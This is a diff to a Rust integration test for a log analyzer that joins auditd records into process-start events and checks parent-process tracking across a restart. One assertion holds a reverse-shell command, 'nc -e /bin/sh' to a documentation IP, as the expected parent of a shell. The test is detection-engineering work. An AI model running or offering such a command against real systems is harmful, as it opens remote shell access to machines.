@@ -420,6 +420,29 @@ fn auditd_records_are_joined_into_process_starts() {
         srv.count("event.dataset:\"auditd.event\" AND process.executable:\"/usr/sbin/arp\" AND process.command_line:\"arp -a\" AND event.type:start"),
         1
     );
+    // The joiners' process table was saved at the stop: a child of `nc` (which started before
+    // the restart) names its parent.
+    let child = [
+        "type=SYSCALL msg=audit(1764129700.200:5020): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=1 ppid=4501 pid=4600 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)",
+        "type=EXECVE msg=audit(1764129700.200:5020): argc=1 a0=\"sh\"",
+        "type=PROCTITLE msg=audit(1764129700.200:5020): proctitle=7368",
+        "type=EOE msg=audit(1764129700.200:5020): ",
+    ];
+    let mut s = TcpStream::connect(srv.tcp).unwrap();
+    for l in child {
+        writeln!(s, "<14>Nov 26 04:01:40 web01 audispd: node=web01 {l}").unwrap();
+    }
+    drop(s);
+    srv.wait_count(
+        "event.dataset:\"auditd.event\" AND process.executable:\"/usr/bin/dash\"",
+        1,
+        30,
+    );
+    assert_eq!(
+        srv.count("process.executable:\"/usr/bin/dash\" AND process.parent.executable:\"/usr/bin/nc\" AND process.parent.command_line:\"nc -e /bin/sh 203.0.113.5 4444\""),
+        1,
+        "the parent started before the restart"
+    );
     // Importing the file again replaces its records and its joined event (same ids): the
     // analyzer indexes 5 + 1 events, the index still holds one of each.
     let indexed = |srv: &Server| {
@@ -444,8 +467,8 @@ fn auditd_records_are_joined_into_process_starts() {
         std::thread::sleep(Duration::from_millis(100));
     }
     std::thread::sleep(Duration::from_millis(500));
-    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10);
-    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 2);
+    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10 + 4);
+    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 3);
     if rule.is_some() {
         let deadline = Instant::now() + Duration::from_secs(30);
         while !alert_titles(&srv).iter().any(|t| t == "Linux Remote System Discovery") {
